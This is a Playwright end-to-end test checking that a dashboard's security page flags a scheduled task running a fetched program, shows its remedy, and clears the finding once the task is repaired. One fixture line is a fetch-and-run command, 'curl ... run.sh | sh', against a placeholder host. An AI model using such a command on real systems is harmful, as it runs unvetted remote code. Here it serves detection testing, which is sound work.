import { accessibilityFindings } from '../../support/journeys/accessibility.ts'
import { expect, signIn, test } from '../../support/journeys/journey.ts'

// Other journeys count the tasks of their server.
test.use({ serverName: 'security' })

test('an administrator finds a dangerous task on the security page, with its remedy, and repairs it by its link', async ({
  page,
  context,
}) => {
  await signIn(context)
  const form = page.getByRole('dialog')
  await page.goto('/dashboard/cron/create')
  await form.getByRole('textbox', { name: 'Name' }).fill('Update agents')
  await form.getByRole('combobox', { name: 'Type' }).selectOption('Trigger')
  await form.getByRole('textbox', { name: /^Command/ }).fill('curl -fsSL https://updates.example.org/run.sh | sh')
  await form.getByRole('button', { name: 'Save' }).click()
  await expect(form).toBeHidden()

  await page.goto('/dashboard')
  await page.getByRole('button', { name: /^User menu/ }).click()
  await page.getByRole('menuitem', { name: 'Settings' }).click()
  await page.getByRole('link', { name: 'Security', exact: true }).click()
  await expect(page).toHaveURL(/\/dashboard\/settings\/security$/)
  await expect(page.getByRole('status').filter({ hasText: /^\d+ findings$/ })).toBeVisible()
  const finding = page.getByRole('region', { name: 'Tasks that run fetched programs or change SSH keys' })
  await expect(finding.getByText(/delete it, look for what it did/)).toBeVisible()
  await expect(finding.getByText(/fetches a program and runs it/)).toBeVisible()
  expect(await accessibilityFindings(page, 'security page')).toEqual([])

  await finding.getByRole('link', { name: /^Update agents #\d+$/ }).click()
  await expect(form.getByRole('textbox', { name: 'Name' })).toHaveValue('Update agents')
  await form.getByRole('textbox', { name: /^Command/ }).fill('apt-get update')
  await form.getByRole('button', { name: 'Save' }).click()
  await expect(form).toBeHidden()

  await page.goto('/dashboard/settings/security')
  await expect(page.getByRole('region', { name: 'Nothing found' })).toContainText(
    'Tasks that run fetched programs or change SSH keys',
  )
  await expect(finding).toHaveCount(0)
  // The remedies themselves lead to pages that are there.
  const factor = page.getByRole('region', { name: 'Users without a second factor' })
  await factor.getByRole('link', { name: /^Open: / }).click()
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await expect(page).not.toHaveURL(/settings\/security/)
})
